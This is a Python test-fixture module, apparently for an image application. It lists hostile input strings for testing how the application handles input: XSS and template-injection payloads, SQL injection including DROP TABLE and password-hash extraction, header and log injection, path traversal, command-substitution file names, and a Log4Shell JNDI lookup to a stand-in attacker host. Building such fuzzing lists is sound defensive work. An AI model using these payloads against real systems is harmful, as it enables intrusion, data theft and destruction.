"""Words that have broken other programs. Ours, and small; BIGIMAGE_CORPUS may name a folder with more."""

from __future__ import annotations

import json
import os
from pathlib import Path

MARKUP = (
    '"><svg onload=hook()>',
    "'><img src=x onerror=hook()>",
    "<script>hook()</script>",
    "</script><script>hook()</script>",
    "</title><script>hook()</script>",
    "</textarea><script>hook()</script>",
    "<!--<script>hook()//-->",
    "--><script>hook()</script>",
    "]]><script>hook()</script>",
    '" onfocus=hook() autofocus x="',
    "' onmouseover='hook()' style='position:fixed;inset:0",
    "javascript:hook()",
    "JaVaScRiPt:hook()//",
    "data:text/html,<script>hook()</script>",
    '<a href="javascript:hook()">x</a>',
    '<iframe srcdoc="<script>parent.hook()</script>">',
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '0;url=//evil.example" http-equiv="refresh',
    "<base href=//evil.example/>",
    '<form action="//evil.example"><button>x</button></form>',
    "<style>@import'//evil.example'</style>",
    "<svg><animate onbegin=hook() attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=hook()>",
    "<img src=//evil.example/pixel.png>",
    "&lt;script&gt;hook()&lt;/script&gt;",
    "\u2028hook()\u2029//",
    "\\u003cscript>hook()\\u003c/script>",
    "${hook()}",
    "`${hook()}`",
    "\\';hook();//",
)
"""Scripts in every dress; `hook` is what a test counts the calls of."""

TEMPLATES = (
    "{{7*7}}",
    "{{config}}",
    "{% for x in ().__class__ %}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%=7*7%>",
)
"""Expressions of template languages; 49 must not appear."""

SQL = (
    "'",
    '"',
    "`",
    "\\",
    "';--",
    "' OR '1'='1",
    '" OR ""="',
    "1 OR 1=1",
    "1; DROP TABLE photo",
    "'; DROP TABLE photo; --",
    "') UNION SELECT 1,2,3--",
    "' UNION SELECT password_hash FROM account--",
    "1 AND SLEEP(60)",
    "' OR SLEEP(60)='",
    "1) AND (SELECT 1 FROM (SELECT SLEEP(60))x",
    "' AND randomblob(1000000000)='",
    "1,(SELECT password_hash FROM account LIMIT 1)",
    "taken_at DESC; SELECT 1",
    "(CASE WHEN 1=1 THEN 1 ELSE 2 END)",
    "%",
    "%25",
    "_",
    "\\%",
    "/*",
    "*/",
    "/*!50000 SELECT*/",
    "0x27",
    "CHAR(39)",
    "\ufeff'",
    "\u02bc OR 1=1",
    "\uff07 OR 1=1",
)
"""For SQL of either engine, in strings, numbers, identifiers and comments."""

FULL_TEXT = (
    '"',
    '""',
    "*",
    "a*",
    "*a",
    "?a",
    "^a",
    "a NEAR b",
    "NEAR(a b, 99999999)",
    "a AND",
    "OR a",
    "NOT",
    "a NOT b",
    "{a b}:c",
    "owner_id:1",
    "rowid:1",
    "labels MATCH 'x'",
    "-a",
    "--",
    "+a",
    "(((((((",
    ")",
    "a:b:c",
    "_exists_:x",
    "secret_field:x",
    "/.*(a|aa)+$/",
    "a~2 b~2",
    "a^1000000",
    "[1 TO 9]",
    "\\",
    "𝔞𝔟𝔠",
    "a\u0301" * 40,
    "\u202eabc",
    "ﷺ" * 20,
)
"""For a full-text index and for the query language in front of it."""

NUMBERS = (
    "-1",
    "0",
    "1e9",
    "1e400",
    "NaN",
    "Infinity",
    "-0",
    "0x10",
    "1_000",
    "٣",
    "9223372036854775807",
    "9223372036854775808",
    "1" + "0" * 20,
    "9" * 400,
    "1.5",
    " 1",
    "",
    "null",
    "true",
    "[]",
)
"""For whatever expects a number."""

HEADERS = (
    "a\r\nSet-Cookie: x=1",
    "a\nLocation: //evil.example",
    "a%0d%0aSet-Cookie:%20x=1",
    "a\u560d\u560aSet-Cookie: x=1",
    "a\x00b",
    "a\tb",
    "a\x0bb",
    "a\x85b",
)
"""For whatever ends in a header."""

FILE_NAMES = (
    'a"\r\nSet-Cookie: x=1.jpg',
    "ü.jpg",
    "a;b.jpg",
    "a\u202egpj.exe",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "C:\\x.jpg",
    "x.jpg.php",
    "x.php%00.jpg",
    "x.php\x00.jpg",
    "x.jpg/",
    "x.JPG ",
    ".htaccess",
    "-rf.jpg",
    "CON.jpg",
    "AUX",
    "x" * 300 + ".jpg",
    "é" * 300,
    "🏖" * 100 + ".jpg",
    "a\tb.jpg",
    "\ufeffa.jpg",
    "a\u2028b.jpg",
    "%s%n%x.jpg",
    "$(id).jpg",
    "`id`.jpg",
    "a|b.jpg",
    "a'b\"c.jpg",
    ".",
    "..",
    " ",
)
"""For the name of a file."""

LOGS = ("a\r\n{} x", "\x1b[31mred\x1b[0m", "${jndi:ldap://evil.example/a}", "%s%s%n", "x" * 100_000)
"""For whatever ends in a log."""


def naughty_strings() -> list[str]:
    """The public list of naughty strings, where BIGIMAGE_CORPUS has it; else empty."""
    path = Path(os.environ.get("BIGIMAGE_CORPUS", "")) / "text" / "naughty-strings" / "blns.json"
    return list(json.loads(path.read_text(encoding="utf-8"))) if path.is_file() else []
